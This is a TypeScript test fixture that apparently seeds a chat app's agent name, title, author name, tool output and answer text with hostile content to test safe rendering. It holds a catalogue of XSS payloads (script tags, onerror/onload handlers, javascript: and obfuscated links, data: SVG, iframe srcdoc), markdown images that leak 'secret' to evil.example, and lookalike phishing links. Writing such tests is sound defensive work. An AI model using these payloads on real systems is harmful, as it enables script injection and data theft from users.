/** A conversation in which everybody says the worst: what a page has told a model to say, what a tool gives back, and a title. */
import { ulid } from 'ulid';
import { createAnswerStreams } from '../../activities/chat/answer-streams.ts';
import { firstWorkspace } from '../../api/testing/people.ts';
import type { TestApi } from '../../api/testing/test-api.ts';
import { silent } from '../../db/log.ts';

const run = (by: string) => `window.attacked='${by}'`;
const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run('data')}"/>`).toString(
  'base64',
);

const html = `<script>${run('script')}</script>
<img src=x onerror="${run('img')}"> <svg onload="${run('svg')}"></svg> <a href="javascript:${run('a')}" onclick="${run('click')}">go</a>
<iframe srcdoc="<script>parent.${run('iframe')}</script>"></iframe> <object data="https://evil.example/o"></object>
<link rel="stylesheet" href="https://evil.example/css"> <meta http-equiv="refresh" content="0;url=https://evil.example/m">
<style>body { outline: 3px solid red; background: url(https://evil.example/bg) }</style>
<form action="https://evil.example/f"><button autofocus onfocus="${run('focus')}">x</button></form>`;

const markdown = (picture: string) => `${html}

![allowed](${picture})

![leak](https://evil.example/a?read=secret) ![by reference][r] ![data](data:image/svg+xml;base64,${svg}) ![own](/api/v1/account)

[r]: http://evil.example/b?read=secret "title"

[![in a link](https://evil.example/c)](https://evil.example/d) and https://evil.example/e

[script](javascript:${run('link')}) [tab](java&#9;script:${run('tab')}) [data](data:text/html,<script>${run('page')}</script>)
[vb](vbscript:x) [own](/api/v1/account) [user](https://bank.example@evil.example/) [mail](mailto:ana@a.example)

[https://bank.example/login](https://evil.example/login)

$$
\\href{javascript:${run('math')}}{x} \\includegraphics{https://evil.example/g} \\htmlStyle{position:fixed}{y}
$$

\`\`\`html
${html}
\`\`\`
`;

/** @param picture address of one that the workspace shows @returns its id, and the path at which anybody reads it */
export async function hostileConversation(
  api: TestApi,
  picture: string,
): Promise<{ id: string; share: string }> {
  const workspace = await firstWorkspace(api);
  const call = async (method: string, path: string, body?: unknown) =>
    (await api.call(method, `/api/v1${path}`, body)).body;
  const agent = await call('POST', '/agents', { name: html.slice(0, 90), visibility: 'workspace' });
  await call('POST', `/agents/${agent.id}/publish`);
  const { id } = await call('POST', '/conversations', {
    with: { kind: 'agent', id: agent.id },
    visibility: 'workspace',
  });
  await call('PATCH', `/conversations/${id}`, { title: `<img src=x onerror="${run('title')}">` });
  const target = { conversation: id, message: ulid() };
  await api.db.inWorkspace(workspace, async ({ chat }) => {
    const { owner } = (await chat.conversations.ownerOf(id))!;
    await chat.messages.addTurn({
      ...{ conversation: id, question: ulid(), answer: target.message, parent: undefined },
      ...{ author: { person: owner, name: `<b onclick="${run('name')}">Ana</b>` } },
      ...{
        parts: [{ type: 'text', text: html }],
        answerer: { kind: 'agent', agent: agent.id, version: 'v' },
      },
    });
  });
  const streams = createAnswerStreams({ db: api.db, bus: api.bus, log: silent });
  const stream = await streams.open(workspace, target, { run: 'r', step: 0, attempt: 1 });
  stream.reasoning(html);
  stream.note({ code: 'unknown', text: html });
  stream.tool({
    ...{ call: 'c', name: `<img src=x onerror="${run('tool')}">`, arguments: JSON.stringify({ html }) },
    ...{
      state: 'failed',
      result: `TOOL SAYS ${markdown(picture)}`,
      failure: { code: 'x', message: html, hint: html },
    },
  });
  stream.text(markdown(picture));
  await stream.close();
  await streams.setState(workspace, target, { state: 'succeeded' });
  await streams.close();
  const link = await call('POST', `/conversations/${id}/share-links`);
  return { id, share: new URL(link.url).pathname };
}
